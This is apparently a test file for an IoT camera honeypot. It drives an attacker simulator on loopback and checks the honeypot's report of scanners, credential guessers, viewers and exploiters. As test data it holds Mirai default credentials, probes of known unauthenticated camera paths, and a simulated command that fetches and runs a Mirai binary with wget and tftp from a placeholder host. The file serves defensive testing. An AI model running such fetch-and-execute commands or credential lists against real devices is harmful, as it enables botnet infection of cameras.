/**
 * The attacker simulator against a real honeypot on loopback, on SQLite and PostgreSQL: the
 * report's sources per class, first times, credentials and timeline must match the ground truth
 * the simulator knows, exactly. Time is a manual clock moved between phases.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAlertSink } from '../../src/alerts/index.js';
import { isBotnetDefault } from '../../src/honeypot/core/credentials.js';
import {
  honeypotReport,
  honeypotSummary,
  type RunningHoneypot,
  startHoneypot,
} from '../../src/honeypot/index.js';
import { manualClock } from '../../src/shared/clock.js';
import { freshStore, type TestStore, testBackends } from '../helpers/db.js';
import { testApp } from '../helpers/web.js';
import {
  grabBanners,
  httpReq,
  operate,
  type Ports,
  scan,
  telnetGuess,
  viewMjpeg,
  viewRtsp,
} from './simulator.js';

const T0 = Date.UTC(2026, 10, 1, 0, 0, 0);
const MIN = 60_000;
const HOUR = 60 * MIN;

/** What the simulator did, kept independently of the honeypot. */
class GroundTruth {
  classes = new Map<string, string>();
  creds: { ip: string; u: string; p: string }[] = [];
  firsts: Record<string, { ip: string; t: number }> = {};
  days = new Map<
    string,
    { logins: number; views: number; operations: number; downloads: number }
  >();
  cls(ip: string, c: string) {
    this.classes.set(ip, c);
  }
  cred(ip: string, u: string, p: string, times = 1) {
    for (let i = 0; i < times; i++) this.creds.push({ ip, u, p });
  }
  first(what: string, ip: string, t: number) {
    this.firsts[what] ??= { ip, t };
  }
  day(t: number, what: 'logins' | 'views' | 'operations' | 'downloads', n = 1) {
    const d = new Date(t).toISOString().slice(0, 10);
    const row = this.days.get(d) ?? { logins: 0, views: 0, operations: 0, downloads: 0 };
    row[what] += n;
    this.days.set(d, row);
  }
}

for (const backend of testBackends()) {
  describe(`honeypot ground truth (${backend})`, () => {
    let t: TestStore;
    let hp: RunningHoneypot;
    let dir: string;
    const clock = manualClock(T0);
    const truth = new GroundTruth();
    let ports: Ports;

    async function phase(at: number, fn: () => Promise<void>) {
      clock.set(T0 + at);
      await fn();
      // Let every connection close and its session.closed be recorded inside this phase.
      const deadline = Date.now() + 5000;
      while (hp.openSessions() > 0 && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 5));
      await new Promise((r) => setTimeout(r, 20));
      await hp.recorder!.flush();
    }

    beforeAll(async () => {
      t = await freshStore(backend);
      dir = mkdtempSync(join(tmpdir(), 'mamori-hp-'));
      hp = await startHoneypot({
        store: t.store,
        ports: { http: 0, rtsp: 0, telnet: 0, onvif: 0 },
        auth: 'weak',
        clock,
        logPath: join(dir, 'events.jsonl'),
        alerts: createAlertSink({ store: t.store }),
      });
      ports = hp.ports;
      const all = [ports.http, ports.rtsp, ports.telnet, ports.onvif];

      await phase(90_000, async () => {
        for (const ip of ['127.0.0.11', '127.0.0.12', '127.0.0.13']) {
          await scan(ip, all);
          truth.cls(ip, 'scanner');
          truth.first('contact', ip, T0 + 90_000);
        }
      });
      await phase(5 * MIN, async () => {
        for (const ip of ['127.0.0.21', '127.0.0.22']) {
          await grabBanners(ip, ports);
          truth.cls(ip, 'grabber');
        }
      });
      await phase(HOUR, async () => {
        const mirai = [
          ['root', 'vizxv'],
          ['root', 'admin'],
          ['root', '888888'],
          ['support', 'support'],
          ['root', 'default'],
        ] as const;
        expect(await telnetGuess('127.0.0.31', ports.telnet, mirai)).toBeUndefined();
        for (const [u, p] of mirai) truth.cred('127.0.0.31', u, p);
        truth.cls('127.0.0.31', 'guesser');
        const human = [
          ['admin', 'hunter2'],
          ['operator', 'letmein'],
        ] as const;
        expect(await telnetGuess('127.0.0.32', ports.telnet, human)).toBeUndefined();
        for (const [u, p] of human) truth.cred('127.0.0.32', u, p);
        truth.cls('127.0.0.32', 'guesser');
      });
      await phase(2 * HOUR, async () => {
        const ok = await telnetGuess(
          '127.0.0.33',
          ports.telnet,
          [
            ['root', 'vizxv'],
            ['root', 'xc3511'],
          ],
          ['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI'],
        );
        expect(ok).toEqual(['root', 'xc3511']);
        truth.cred('127.0.0.33', 'root', 'vizxv');
        truth.cred('127.0.0.33', 'root', 'xc3511');
        truth.cls('127.0.0.33', 'guesser');
        truth.first('login', '127.0.0.33', T0 + 2 * HOUR);
        truth.day(T0 + 2 * HOUR, 'logins');
      });
      await phase(3 * HOUR, async () => {
        expect(await viewMjpeg('127.0.0.41', ports.http, 'admin:admin')).toBe(200);
        truth.cred('127.0.0.41', 'admin', 'admin');
        truth.first('view', '127.0.0.41', T0 + 3 * HOUR);
        await viewRtsp('127.0.0.42', ports.rtsp, 'admin:admin');
        // DESCRIBE, SETUP and PLAY each carry it, on one connection: one login.
        truth.cred('127.0.0.42', 'admin', 'admin');
        expect(await viewMjpeg('127.0.0.43', ports.http, 'admin:1234')).toBe(401);
        expect(await viewMjpeg('127.0.0.43', ports.http, 'admin:admin')).toBe(200);
        truth.cred('127.0.0.43', 'admin', '1234');
        truth.cred('127.0.0.43', 'admin', 'admin');
        for (const ip of ['127.0.0.41', '127.0.0.42', '127.0.0.43']) truth.cls(ip, 'viewer');
        truth.day(T0 + 3 * HOUR, 'logins', 3);
        truth.day(T0 + 3 * HOUR, 'views', 3);
      });
      await phase(25 * HOUR, async () => {
        for (const ip of ['127.0.0.51', '127.0.0.52']) {
          await operate(ip, ports, 'admin', 'admin');
          truth.cred(ip, 'admin', 'admin', 3); // form login + two WS-Security tokens
          truth.cls(ip, 'operator');
          truth.first('operation', ip, T0 + 25 * HOUR);
          truth.day(T0 + 25 * HOUR, 'logins', 3);
          truth.day(T0 + 25 * HOUR, 'views');
          truth.day(T0 + 25 * HOUR, 'operations', 3); // Dahua CGI, ContinuousMove, Stop
        }
      });
      await phase(26 * HOUR, async () => {
        const ok = await telnetGuess(
          '127.0.0.61',
          ports.telnet,
          [['root', 'xc3511']],
          [
            'enable',
            'cd /tmp; wget http://198.51.100.7/bins/mirai.arm7 -O m; chmod 777 m; ./m telnet.arm7',
            'tftp -g -l x -r mirai.mips 198.51.100.7',
            'exit',
          ],
        );
        expect(ok).toEqual(['root', 'xc3511']);
        truth.cred('127.0.0.61', 'root', 'xc3511');
        truth.cls('127.0.0.61', 'exploiter');
        truth.day(T0 + 26 * HOUR, 'logins');
        truth.day(T0 + 26 * HOUR, 'downloads', 2);
      });
      await hp.stop();
    }, 120_000);

    afterAll(async () => {
      await hp?.stop();
      await t?.cleanup();
      rmSync(dir, { recursive: true, force: true });
    });

    it('counts each source once, in the furthest class it reached', async () => {
      const { report, extras } = await honeypotReport(t.store);
      const expected: Record<string, number> = {
        total: truth.classes.size,
        scanner: 0,
        grabber: 0,
        guesser: 0,
        viewer: 0,
        operator: 0,
        exploiter: 0,
      };
      for (const c of truth.classes.values()) expected[c]!++;
      expect(report.sources).toEqual(expected);
      expect(Object.fromEntries(extras.classes)).toEqual(Object.fromEntries(truth.classes));
    });

    it('reports the first contact, login, view and operation exactly', async () => {
      const { report } = await honeypotReport(t.store);
      for (const what of ['contact', 'login', 'view', 'operation'] as const) {
        const f = truth.firsts[what]!;
        expect(report.first[what]).toEqual({
          at: new Date(f.t).toISOString(),
          source: f.ip,
          afterSeconds: (f.t - T0) / 1000,
        });
      }
    });

    it('lists every credential tried with its botnet-default flag', async () => {
      const { report, extras } = await honeypotReport(t.store, { topN: 100 });
      const byKey = new Map<string, { u: string; p: string; n: number; ips: Set<string> }>();
      for (const c of truth.creds) {
        const k = `${c.u}:${c.p}`;
        const e = byKey.get(k) ?? { u: c.u, p: c.p, n: 0, ips: new Set<string>() };
        e.n++;
        e.ips.add(c.ip);
        byKey.set(k, e);
      }
      const expected = [...byKey.values()]
        .map((e) => ({
          username: e.u,
          password: e.p,
          attempts: e.n,
          sources: e.ips.size,
          botnetDefault: isBotnetDefault(e.u, e.p),
        }))
        .sort(
          (a, b) =>
            b.attempts - a.attempts ||
            a.username.localeCompare(b.username) ||
            a.password.localeCompare(b.password),
        );
      expect(report.credentials).toEqual(expected);
      expect(extras.loginAttempts).toBe(truth.creds.length);
      const botnet = truth.creds.filter((c) => isBotnetDefault(c.u, c.p)).length;
      expect(extras.botnetShare).toBeCloseTo(botnet / truth.creds.length, 12);
      // admin/admin and root/xc3511 are Mirai defaults; hunter2 is not
      expect(report.credentials.find((c) => c.password === 'hunter2')?.botnetDefault).toBe(false);
      expect(report.credentials.find((c) => c.password === 'xc3511')?.botnetDefault).toBe(true);
    });

    it('keeps a per-day timeline and the commands and downloads', async () => {
      const { report, extras } = await honeypotReport(t.store);
      expect(report.timeline.map((d) => d.day)).toEqual(['2026-11-01', '2026-11-02']);
      for (const row of report.timeline) {
        const want = truth.days.get(row.day)!;
        expect({
          logins: row.logins,
          views: row.views,
          operations: row.operations,
          downloads: row.downloads,
        }).toEqual(want);
      }
      const day1Sources = [...truth.classes.keys()].filter((ip) => !/\.(5\d|6\d)$/.test(ip));
      expect(report.timeline[0]!.sources).toBe(day1Sources.length);
      expect(report.timeline[1]!.sources).toBe(3);
      const commands = new Map(extras.commands.map((c) => [c.command, c.count]));
      expect(commands.get('enable')).toBe(2);
      expect(commands.get('/bin/busybox ECCHI')).toBe(1);
      expect(commands.get('wget http://198.51.100.7/bins/mirai.arm7 -O m')).toBe(1);
      expect(extras.downloads.map((d) => d.url).sort()).toEqual([
        'http://198.51.100.7/bins/mirai.arm7',
        'tftp://198.51.100.7/mirai.mips',
      ]);
    });

    it('gives the bulletin its summary', async () => {
      const s = await honeypotSummary(t.store);
      const { report, extras } = await honeypotReport(t.store);
      expect(s.sources).toEqual(report.sources);
      expect(s.firstContact).toBe(new Date(truth.firsts.contact!.t).toISOString());
      const adminAdmin = truth.creds.filter((c) => c.u === 'admin' && c.p === 'admin').length;
      expect(adminAdmin).toBe(9);
      expect(s.topCredentials[0]).toEqual({
        username: 'admin',
        password: 'admin',
        attempts: adminAdmin,
      });
      expect(s.botnetShare).toBe(extras.botnetShare);
      expect(s.events).toBe(extras.events);
    });

    it('writes the same events to the JSON-lines log as to the store', async () => {
      const lines = readFileSync(join(dir, 'events.jsonl'), 'utf8').trim().split('\n');
      const rows = await t.store.db
        .selectFrom('honeypot_event')
        .select(['eventid', 'session', 'time'])
        .orderBy('id')
        .execute();
      expect(lines.length).toBe(rows.length);
      expect(lines.map((l) => JSON.parse(l).eventid)).toEqual(rows.map((r) => r.eventid));
      // every connection opened was closed and recorded as such
      const connects = rows.filter((r) => r.eventid === 'session.connect').length;
      const closes = rows.filter((r) => r.eventid === 'session.closed').length;
      expect(closes).toBe(connects);
    });

    it('raises one first-contact alert and one alert per source reaching viewer or beyond', async () => {
      const want: string[] = ['honeypot.first_contact 127.0.0.11'];
      const rank = ['viewer', 'operator', 'exploiter'];
      for (const [ip, cls] of truth.classes) {
        // operators passed through viewer first (they took a snapshot before panning)
        if (cls === 'operator') want.push(`honeypot.viewer ${ip}`);
        if (rank.includes(cls)) want.push(`honeypot.${cls} ${ip}`);
      }
      await expect
        .poll(async () => {
          const rows = await t.store.db
            .selectFrom('alert')
            .select(['kind', 'details'])
            .where('area', '=', 'honeypot')
            .execute();
          return rows.map((r) => `${r.kind} ${JSON.parse(r.details ?? '{}').source}`).sort();
        })
        .toEqual(want.sort());
    });

    it('serves the report on /api/v1/honeypot/report and the dashboard', async () => {
      const app = await testApp(t.store, 'test');
      const res = await app.request('/api/v1/honeypot/report');
      expect(res.status).toBe(200);
      const body = (await res.json()) as Record<string, unknown>;
      expect(Object.keys(body).sort()).toEqual(['credentials', 'first', 'sources', 'timeline']);
      const { report } = await honeypotReport(t.store);
      expect(body).toEqual(JSON.parse(JSON.stringify(report)));
      const since = await app.request('/api/v1/honeypot/report?since=2026-11-02');
      const s = (await since.json()) as { timeline: { day: string }[] };
      expect(s.timeline.map((d) => d.day)).toEqual(['2026-11-02']);
      const page = await (await app.request('/honeypot')).text();
      expect(page).toContain('data-honeypot="sources"');
      expect(page).toContain('xc3511');
      expect(page).toContain('http://198.51.100.7/bins/mirai.arm7');
      // the console's own script file only: nothing an attacker sent becomes a script
      expect(page.match(/<script[^>]*>/g)).toEqual(['<script src="/static/console.js" defer>']);
    });
  });
}

describe('weak, flawed and strong modes', () => {
  it('flawed opens only the classic unauthenticated paths; strong opens nothing', async () => {
    const t = await freshStore('sqlite');
    try {
      for (const mode of ['none', 'flawed', 'strong'] as const) {
        const hp = await startHoneypot({
          store: t.store,
          ports: { http: 0, rtsp: 0, telnet: 0, onvif: 0 },
          auth: mode,
        });
        try {
          const get = (p: string, auth?: string) =>
            httpReq('127.0.0.1', hp.ports.http, p, auth ? { auth } : {}).then((r) => r.status);
          const open = mode !== 'strong';
          expect(await get('/snapshot.cgi')).toBe(open ? 200 : 401);
          expect(await get('/system.ini')).toBe(open ? 200 : 401);
          expect(await get('/ISAPI/System/deviceInfo?auth=YWRtaW46MTEK')).toBe(open ? 200 : 401);
          expect(await get('/cgi-bin/snapshot.cgi')).toBe(mode === 'none' ? 200 : 401);
          expect(await get('/cgi-bin/ptz.cgi?action=start&code=Up', 'admin:admin')).toBe(
            mode === 'none' ? 200 : 401,
          );
        } finally {
          await hp.stop();
        }
      }
    } finally {
      await t.cleanup();
    }
  });
});
